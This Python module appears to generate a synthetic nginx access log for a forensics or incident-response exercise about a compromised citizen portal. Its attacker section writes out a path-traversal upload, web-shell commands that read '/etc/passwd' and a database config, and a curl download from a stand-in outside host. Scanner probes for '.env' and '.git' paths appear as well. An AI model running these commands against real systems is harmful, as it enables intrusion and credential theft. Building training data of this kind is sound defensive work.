"""``nginx-access.log``: the portal's web server, combined format with the request time at the end."""

from __future__ import annotations

from datetime import datetime
from operator import itemgetter
from random import Random

from samples.generate import story
from samples.generate.clock import after, common_log_time, every, moments
from samples.generate.people import browser, citizen_address

Request = tuple[datetime, str]

_PAGES = (
    "/", "/index.html", "/static/css/portal.css", "/static/js/portal.js", "/api/items?page=1", "/api/items?page=2",
    "/api/items/search?word=%E5%85%AC%E7%A7%AF%E9%87%91", "/api/user/session", "/login", "/api/cases/progress",
    "/uploads/20261117/application.pdf", "/uploads/20261118/photo.jpg", "/favicon.ico", "/notice/2026/1042.html",
)  # fmt: skip
_PROBED = ("/uploads/1.php", "/uploads/shell.jsp", "/.env", "/wp-login.php", "/phpmyadmin/index.php", "/.git/config")
_SHELL_COMMANDS = (
    "id", "uname%20-a", "cat%20/etc/passwd", "ip%20addr", "ls%20-la%20/opt/portal", "cat%20/opt/portal/conf/db.yml",
    "whoami", "curl%20-o%20/tmp/.u%20http://192.0.2.66/u", "arp%20-a",
)  # fmt: skip
_ROUGH_BROWSER = "python-requests/2.32.3"


def render() -> bytes:
    """The file's bytes."""
    random = Random("nginx-access.log")
    requests = [*_citizens(random), *_scanners(random), *_web_shell(random)]
    text = [line for _, line in sorted(requests, key=itemgetter(0))]
    text.insert(len(text) // 4, text[3][:21])
    return ("\n".join(text) + "\n").encode()


def _line(moment: datetime, address: str, request: str, answer: tuple[int, int, str], agent: str) -> Request:
    status, size, seconds = answer
    referrer = f"https://{story.PORTAL}/" if status == 200 and "Mozilla" in agent else "-"
    stamp = common_log_time(moment)
    return moment, f'{address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referrer}" "{agent}" {seconds}'


def _citizens(random: Random) -> list[Request]:
    requests: list[Request] = []
    for moment in moments(random, 1700):
        page = random.choice(_PAGES)
        status = 200 if random.randrange(20) else random.choice((304, 302, 404, 499))
        size = random.randrange(300, 48000) if status == 200 else 0
        answer = (status, size, f"0.{random.randrange(2, 900):03d}")
        requests.append(_line(moment, citizen_address(random), f"GET {page}", answer, browser(random)))
    for moment in moments(random, 60):
        answer = (201, 86, f"0.{random.randrange(80, 900):03d}")
        address, agent = citizen_address(random), browser(random)
        requests.append(_line(moment, address, "POST /api/attachments/upload", answer, agent))
    return requests


def _scanners(random: Random) -> list[Request]:
    """What any public address sees every day; nothing of it is there, so nothing of it is found."""
    requests: list[Request] = []
    for moment in moments(random, 40):
        request = f"GET {random.choice(_PROBED)}"
        requests.append(_line(moment, citizen_address(random), request, (404, 153, "0.001"), "Mozilla/5.0 zgrab/0.x"))
    requests.append((story.at("04:17:09"), _tls_to_plain_port(story.at("04:17:09"))))
    return requests


def _tls_to_plain_port(moment: datetime) -> str:
    return f'198.51.100.201 - - [{common_log_time(moment)}] "\\x16\\x03\\x01\\x00\\xEE\\x01" 400 150 "-" "-" 0.012'


def _web_shell(random: Random) -> list[Request]:
    upload = "POST /api/attachments/upload?dir=../uploads/20261118"
    requests = [_line(story.SHELL_UPLOAD, story.ATTACKER, upload, (201, 92, "0.214"), _ROUGH_BROWSER)]
    begun = every(story.SHELL_USE, after(story.SHELL_USE, 8 * 200), 200, random, jitter=60)
    for moment, command in zip(begun, _SHELL_COMMANDS, strict=True):
        request = f"GET {story.SHELL_PATH}?cmd={command}"
        answer = (200, random.randrange(40, 4000), f"0.{random.randrange(20, 300):03d}")
        requests.append(_line(moment, story.ATTACKER, request, answer, _ROUGH_BROWSER))
    return requests
